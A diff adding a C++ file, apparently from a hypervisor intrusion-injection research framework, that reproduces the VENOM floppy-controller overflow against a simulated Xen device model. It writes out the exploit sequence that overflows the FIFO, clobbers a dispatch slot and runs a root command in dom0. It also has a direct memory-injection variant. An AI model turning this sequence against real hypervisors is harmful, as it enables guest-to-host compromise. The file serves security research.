@@ -1,0 +1,161 @@
+// XSA-133 / VENOM use case (the paper's §III-A motivating example,
+// CVE-2015-3456): the device model's floppy controller accepts parameter
+// bytes without a bounds check; a malicious guest overflows the command
+// FIFO into the adjacent dispatch table, and the next matching command
+// "executes" attacker data with the device model's privilege — root in
+// dom0.
+//
+// The injection variant is §III-B verbatim: "the intrusion injection tool
+// could change the QEMU process to allow the injection of the
+// corresponding error, e.g., by overwriting the FDC request handler
+// method" — two physical writes into the emulator's process memory, then
+// ordinary guest I/O activates the state.
+#include "core/injector.hpp"
+#include "dm/device_model.hpp"
+#include "guest/payload.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+/// Marker the payload leaves behind in dom0 when it runs.
+constexpr const char* kPwnPath = "/tmp/dm_pwned";
+
+/// The command the hijacked device model runs (as root, in dom0).
+constexpr const char* kPwnCommand =
+    "echo \"|$(id)|@$(hostname)\" > /tmp/dm_pwned";
+
+std::vector<std::uint8_t> encode_payload() {
+  guest::Payload payload{};
+  payload.op = guest::PayloadOp::RunCommandAllDomains;  // DM runs it locally
+  payload.command = kPwnCommand;
+  std::vector<std::uint8_t> bytes(256);
+  bytes.resize(payload.encode(bytes));
+  return bytes;
+}
+
+/// Guest driver: issue the ReadId command that dispatches through the
+/// (possibly corrupted) table slot.
+dm::IoResult trigger_dispatch(dm::DeviceModel& device) {
+  const dm::IoResult a = device.outb(dm::kFdcFifoPort, dm::kCmdReadId);
+  if (a != dm::IoResult::Ok) return a;
+  return device.outb(dm::kFdcFifoPort, 0x00);  // the single parameter byte
+}
+
+}  // namespace
+
+Xsa133Venom::Xsa133Venom() = default;
+Xsa133Venom::~Xsa133Venom() = default;
+
+core::IntrusionModel Xsa133Venom::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::DeviceDriver,
+      .component = core::TargetComponent::IoEmulation,
+      .interface = core::InteractionInterface::IoRequest,
+      .functionality = core::AbusiveFunctionality::WriteUnauthorizedMemory,
+      .erroneous_state =
+          "FDC dispatch table corrupted inside the device-model process",
+  };
+}
+
+core::CaseOutcome Xsa133Venom::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  device_ = std::make_unique<dm::DeviceModel>(p.dom0(), guest);
+  dm::DeviceModel& device = *device_;
+
+  detail::note(out, guest, "fdc: sending DRIVE SPECIFICATION command");
+  (void)device.outb(dm::kFdcFifoPort, dm::kCmdDriveSpecification);
+
+  // Park the payload in the FIFO (clear of the trigger's scratch bytes)...
+  const auto payload = encode_payload();
+  for (std::uint64_t i = 0; i < dm::FdcLayout::kPayloadFifoOffset; ++i) {
+    (void)device.outb(dm::kFdcFifoPort, 0x00);
+  }
+  for (const std::uint8_t byte : payload) {
+    (void)device.outb(dm::kFdcFifoPort, byte);
+  }
+  // ...pad up to the dispatch slot of the trigger command...
+  const std::uint64_t slot_offset =
+      dm::FdcLayout::kFifoSize +
+      dm::FdcLayout::slot_of(dm::kCmdReadId) * 8;
+  for (std::uint64_t i = dm::FdcLayout::kPayloadFifoOffset + payload.size();
+       i < slot_offset; ++i) {
+    (void)device.outb(dm::kFdcFifoPort, 0x00);
+  }
+  detail::note(out, guest,
+               "fdc: overflowing FIFO into the dispatch table (+" +
+                   std::to_string(slot_offset - dm::FdcLayout::kFifoSize) +
+                   " bytes)");
+  // ...clobber the slot and terminate the parameter list.
+  for (int i = 0; i < 8; ++i) (void)device.outb(dm::kFdcFifoPort, 0x41);
+  (void)device.outb(dm::kFdcFifoPort, 0x80);  // DONE bit
+
+  if (!device.handler_table_corrupted()) {
+    detail::note(out, guest,
+                 "fdc: controller bounded the FIFO (vulnerability fixed)");
+    return out;
+  }
+  detail::note(out, guest, "fdc: dispatch table corrupted");
+
+  detail::note(out, guest, "fdc: triggering hijacked command");
+  (void)trigger_dispatch(device);
+  out.completed = device.hijacked_dispatches() > 0;
+  return out;
+}
+
+core::CaseOutcome Xsa133Venom::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  device_ = std::make_unique<dm::DeviceModel>(p.dom0(), guest);
+  dm::DeviceModel& device = *device_;
+
+  // Inject the erroneous state straight into the emulator process: payload
+  // into the FIFO region, garbage over the request handler's slot.
+  core::ArbitraryAccessInjector injector{guest};
+  const auto payload = encode_payload();
+  detail::note(out, guest, "injecting payload into qemu-dm FIFO region");
+  if (!injector.write(
+          device.arena_paddr().raw() + dm::FdcLayout::kFifoOffset +
+              dm::FdcLayout::kPayloadFifoOffset,
+          payload,
+          core::AddressMode::Physical)) {
+    out.rc = injector.last_rc();
+    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
+                                 hv::errno_name(out.rc));
+    return out;
+  }
+  detail::note(out, guest, "overwriting the FDC request handler entry");
+  if (!injector.write_u64(
+          device.handler_table_paddr().raw() +
+              dm::FdcLayout::slot_of(dm::kCmdReadId) * 8,
+          0x4141414141414141ULL, core::AddressMode::Physical)) {
+    out.rc = injector.last_rc();
+    return out;
+  }
+  out.rc = injector.last_rc();
+
+  detail::note(out, guest, "issuing an IO request similar to a VENOM attack");
+  const dm::IoResult result = trigger_dispatch(device);
+  if (result == dm::IoResult::DeviceAborted) {
+    detail::note(out, guest,
+                 "qemu-dm aborted on dispatch-table integrity check");
+  }
+  out.completed = true;
+  return out;
+}
+
+bool Xsa133Venom::erroneous_state_present(guest::VirtualPlatform& p) const {
+  (void)p;
+  return device_ != nullptr && device_->handler_table_corrupted();
+}
+
+bool Xsa133Venom::security_violation(guest::VirtualPlatform& p) const {
+  const auto content = p.dom0().fs().read(kPwnPath, /*uid=*/0);
+  return content.has_value() &&
+         content->find("uid=0(root)") != std::string::npos;
+}
+
+}  // namespace ii::xsa
